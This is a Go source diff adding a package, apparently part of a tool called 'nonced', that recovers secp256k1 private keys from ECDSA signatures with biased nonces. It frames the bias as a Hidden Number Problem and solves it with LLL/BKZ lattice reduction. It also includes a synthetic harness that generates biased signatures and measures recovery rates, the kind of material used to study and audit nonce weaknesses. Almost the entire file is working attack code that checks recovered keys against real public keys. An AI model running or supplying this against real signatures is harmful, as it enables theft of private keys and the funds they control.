@@ -0,0 +1,362 @@
+package sighash
+
+import (
+	"crypto/rand"
+	"errors"
+	"io"
+	"math/big"
+
+	"github.com/btcsuite/btcd/btcec"
+	"github.com/canselcik/nonced/internal/lattice"
+)
+
+// BiasKind is the way the nonces of a signer are assumed to be biased.
+type BiasKind int
+
+const (
+	// BiasMSBZero nonces have their Bits most significant bits set to zero.
+	BiasMSBZero BiasKind = iota
+
+	// BiasLSBKnown nonces have their Bits least significant bits known.
+	BiasLSBKnown
+
+	// BiasKnownPrefix nonces have their Bits most significant bits known.
+	BiasKnownPrefix
+)
+
+var biasNames = map[BiasKind]string{
+	BiasMSBZero:     "msb",
+	BiasLSBKnown:    "lsb",
+	BiasKnownPrefix: "prefix",
+}
+
+func (kind BiasKind) String() string {
+	return biasNames[kind]
+}
+
+// ParseBiasKind is the inverse of BiasKind.String.
+func ParseBiasKind(name string) (BiasKind, error) {
+	for kind, kindName := range biasNames {
+		if kindName == name {
+			return kind, nil
+		}
+	}
+	return 0, ErrBiasModel
+}
+
+// BiasModel describes what is known about the nonces of a set of signatures.
+type BiasModel struct {
+	Kind BiasKind
+	Bits int
+
+	// Known holds the known bits of the nonce of each signature, in the
+	// order of the signatures. They are taken to be zero when nil, which
+	// for BiasLSBKnown means nonces that are multiples of 2^Bits.
+	Known []*big.Int
+}
+
+// validBits tells whether the model leaves some of the 256 bits of the nonces
+// known and some unknown.
+func (model BiasModel) validBits() bool {
+	return model.Bits > 0 && model.Bits < 256
+}
+
+// signAgnostic tells whether the model holds for -k as well as for k. Only
+// the x coordinate of k*G is known, and signers may negate s (low-S) or k
+// (BIP340), so the other models assume the nonces are as they were signed.
+func (model BiasModel) signAgnostic() bool {
+	if model.Kind == BiasMSBZero {
+		return true
+	}
+	if model.Kind == BiasLSBKnown {
+		for _, known := range model.Known {
+			if known != nil && known.Sign() != 0 {
+				return false
+			}
+		}
+		return true
+	}
+	return false
+}
+
+func (model BiasModel) known(i int) *big.Int {
+	if i < len(model.Known) && model.Known[i] != nil {
+		return model.Known[i]
+	}
+	return new(big.Int)
+}
+
+// HNPOptions tunes the lattice reduction of SolveHNP.
+type HNPOptions struct {
+	// BlockSize enables BKZ with the given block size over LLL when > 2
+	BlockSize int
+	MaxTours  int
+}
+
+var (
+	ErrBiasModel     = errors.New("unknown nonce bias model")
+	ErrHNPTooFewSigs = errors.New("need at least two signatures by the same key for SolveHNP")
+	ErrHNPKnownCount = errors.New("need the known nonce bits of every signature for the bias model")
+)
+
+// hnpSample is the nonce of a signature under a bias model, reduced to
+// t = u + v*d mod n with |t| < bound.
+type hnpSample struct {
+	u, v *big.Int
+}
+
+// hnpSamples applies the bias model to the linear forms of the nonces.
+func hnpSamples(pairs []*SHPair, model BiasModel) ([]hnpSample, *big.Int, error) {
+	n := btcec.S256().N
+	if !model.validBits() {
+		return nil, nil, ErrBiasModel
+	}
+	if model.Known != nil && len(model.Known) != len(pairs) {
+		return nil, nil, ErrHNPKnownCount
+	}
+
+	var bound, shift, scale *big.Int
+	switch model.Kind {
+	case BiasMSBZero:
+		// k < 2^(256-bits), or -k for signatures with a negated nonce
+		bound = new(big.Int).Lsh(big.NewInt(1), uint(256-model.Bits))
+	case BiasLSBKnown:
+		// k = 2^bits * t + known, with t < n / 2^bits
+		scale = new(big.Int).ModInverse(new(big.Int).Lsh(big.NewInt(1), uint(model.Bits)), n)
+		bound = new(big.Int).Rsh(n, uint(model.Bits))
+		if !model.signAgnostic() {
+			shift = new(big.Int).Rsh(bound, 1)
+			bound = shift
+		}
+	case BiasKnownPrefix:
+		// k = known * 2^(256-bits) + t, with t < 2^(256-bits)
+		bound = new(big.Int).Lsh(big.NewInt(1), uint(255-model.Bits))
+		shift = bound
+	default:
+		return nil, nil, ErrBiasModel
+	}
+
+	samples := make([]hnpSample, len(pairs))
+	for i, pair := range pairs {
+		u, v, err := pair.linearNonce()
+		if err != nil {
+			return nil, nil, err
+		}
+		switch model.Kind {
+		case BiasLSBKnown:
+			u.Sub(u, model.known(i))
+			u.Mul(u, scale)
+			v.Mul(v, scale)
+		case BiasKnownPrefix:
+			u.Sub(u, new(big.Int).Lsh(model.known(i), uint(256-model.Bits)))
+		}
+		// Centering t in [0, 2*bound) around zero
+		if shift != nil {
+			u.Sub(u, shift)
+		}
+		samples[i] = hnpSample{u.Mod(u, n), v.Mod(v, n)}
+	}
+	return samples, bound, nil
+}
+
+// SolveHNP recovers the key behind signatures whose nonces are biased as
+// described by model, framing it as a Hidden Number Problem. The nonce of
+// the first signature is used to eliminate the key from the others,
+// t_i = A_i*t_0 + C_i mod n, and (t_1, ..., t_(m-1), t_0, bound) is then a
+// short vector of the lattice spanned by the rows of
+//
+//	n   0   ... 0   0   0
+//	0   n   ... 0   0   0
+//	...
+//	A_1 A_2 ... A_m 1   0
+//	C_1 C_2 ... C_m 0   bound
+//
+// which reduction finds once there are enough signatures for their leaked
+// bits to exceed the size of the key, roughly 256 / bits of them.
+func SolveHNP(pairs []*SHPair, model BiasModel, opts HNPOptions) (*btcec.PrivateKey, error) {
+	if len(pairs) < 2 {
+		return nil, ErrHNPTooFewSigs
+	}
+	for _, pair := range pairs[1:] {
+		if err := checkRelatedPairs(pairs[0], pair); err != nil {
+			return nil, err
+		}
+	}
+	target, err := pairs[0].keyTarget()
+	if err != nil {
+		return nil, err
+	}
+	samples, bound, err := hnpSamples(pairs, model)
+	if err != nil {
+		return nil, err
+	}
+
+	n := btcec.S256().N
+	m := len(samples)
+	v0Inv := new(big.Int).ModInverse(samples[0].v, n)
+	if v0Inv == nil {
+		return nil, ErrNoResult
+	}
+
+	basis := make([][]*big.Int, m+1)
+	for i := range basis {
+		basis[i] = make([]*big.Int, m+1)
+		for j := range basis[i] {
+			basis[i][j] = new(big.Int)
+		}
+	}
+	for i := 1; i < m; i++ {
+		// A_i = v_i / v_0, C_i = u_i - A_i*u_0
+		a := new(big.Int).Mul(samples[i].v, v0Inv)
+		a.Mod(a, n)
+		c := new(big.Int).Mul(a, samples[0].u)
+		c.Sub(samples[i].u, c).Mod(c, n)
+
+		basis[i-1][i-1].Set(n)
+		basis[m-1][i-1] = a
+		basis[m][i-1] = c
+	}
+	basis[m-1][m-1].SetInt64(1)
+	basis[m][m].Set(bound)
+
+	if opts.BlockSize > 2 {
+		err = lattice.BKZ(basis, opts.BlockSize, lattice.DefaultDelta, opts.MaxTours)
+	} else {
+		err = lattice.LLL(basis, lattice.DefaultDelta)
+	}
+	if err != nil {
+		return nil, err
+	}
+
+	// The embedding coordinate tells which multiple of the target a short
+	// vector is, only +-1 yields t_0
+	negBound := new(big.Int).Neg(bound)
+	for _, row := range basis {
+		var t0 *big.Int
+		switch {
+		case row[m].Cmp(bound) == 0:
+			t0 = new(big.Int).Set(row[m-1])
+		case row[m].Cmp(negBound) == 0:
+			t0 = new(big.Int).Neg(row[m-1])
+		default:
+			continue
+		}
+
+		// d = (t_0 - u_0) / v_0
+		d := t0.Sub(t0, samples[0].u)
+		d.Mul(d, v0Inv).Mod(d, n)
+		if d.Sign() == 0 {
+			continue
+		}
+		priv, pub := btcec.PrivKeyFromBytes(btcec.S256(), padTo32(d.Bytes()))
+		if target.matches(pub.X, pub.Y) {
+			return priv, nil
+		}
+	}
+	return nil, ErrNoResult
+}
+
+// SyntheticBiasedPairs signs count random messages with priv, using nonces
+// biased as described by model. The returned model has the known bits of
+// the nonces filled in. ECDSA signatures are low-S normalized like real ones
+// when the model allows for it.
+func SyntheticBiasedPairs(priv *btcec.PrivateKey, count int, model BiasModel,
+	rng io.Reader) ([]*SHPair, BiasModel, error) {
+
+	if !model.validBits() {
+		return nil, model, ErrBiasModel
+	}
+	curve := btcec.S256()
+	n := curve.N
+	model.Known = make([]*big.Int, count)
+	pairs := make([]*SHPair, count)
+	for i := range pairs {
+		var k *big.Int
+		for k == nil || k.Sign() == 0 || k.Cmp(n) >= 0 {
+			free, err := rand.Int(rng, new(big.Int).Lsh(big.NewInt(1), uint(256-model.Bits)))
+			if err != nil {
+				return nil, model, err
+			}
+			known, err := rand.Int(rng, new(big.Int).Lsh(big.NewInt(1), uint(model.Bits)))
+			if err != nil {
+				return nil, model, err
+			}
+			switch model.Kind {
+			case BiasMSBZero:
+				known.SetInt64(0)
+				k = free
+			case BiasLSBKnown:
+				k = new(big.Int).Lsh(free, uint(model.Bits))
+				k.Add(k, known)
+			case BiasKnownPrefix:
+				k = new(big.Int).Lsh(known, uint(256-model.Bits))
+				k.Add(k, free)
+			default:
+				return nil, model, ErrBiasModel
+			}
+			model.Known[i] = known
+		}
+
+		z := make([]byte, 32)
+		if _, err := io.ReadFull(rng, z); err != nil {
+			return nil, model, err
+		}
+
+		// s = (z + r*d) / k
+		rx, _ := curve.ScalarBaseMult(padTo32(k.Bytes()))
+		r := rx.Mod(rx, n)
+		s := new(big.Int).Mul(r, priv.D)
+		s.Add(s, new(big.Int).SetBytes(z))
+		s.Mul(s, new(big.Int).ModInverse(k, n))
+		s.Mod(s, n)
+		if model.signAgnostic() && s.Cmp(new(big.Int).Rsh(n, 1)) > 0 {
+			s.Sub(n, s)
+		}
+		pairs[i] = &SHPair{
+			R:         r,
+			S:         s,
+			Z:         z,
+			PublicKey: priv.PubKey().SerializeUncompressed(),
+		}
+	}
+	return pairs, model, nil
+}
+
+// SyntheticHNPResult is the success rate of SolveHNP over a number of trials
+// with a given number of signatures.
+type SyntheticHNPResult struct {
+	Sigs      int
+	Trials    int
+	Successes int
+}
+
+// RunSyntheticHNP runs SolveHNP against freshly generated keys and biased
+// signatures for each of the signature counts, showing how many signatures
+// the bias model needs for recovery.
+func RunSyntheticHNP(model BiasModel, sigCounts []int, trials int, opts HNPOptions,
+	rng io.Reader) ([]SyntheticHNPResult, error) {
+
+	if !model.validBits() {
+		return nil, ErrBiasModel
+	}
+	results := make([]SyntheticHNPResult, 0, len(sigCounts))
+	for _, sigs := range sigCounts {
+		result := SyntheticHNPResult{Sigs: sigs, Trials: trials}
+		for trial := 0; trial < trials; trial++ {
+			priv, err := btcec.NewPrivateKey(btcec.S256())
+			if err != nil {
+				return nil, err
+			}
+			pairs, known, err := SyntheticBiasedPairs(priv, sigs, model, rng)
+			if err != nil {
+				return nil, err
+			}
+			recovered, err := SolveHNP(pairs, known, opts)
+			if err == nil && recovered.D.Cmp(priv.D) == 0 {
+				result.Successes++
+			}
+		}
+		results = append(results, result)
+	}
+	return results, nil
+}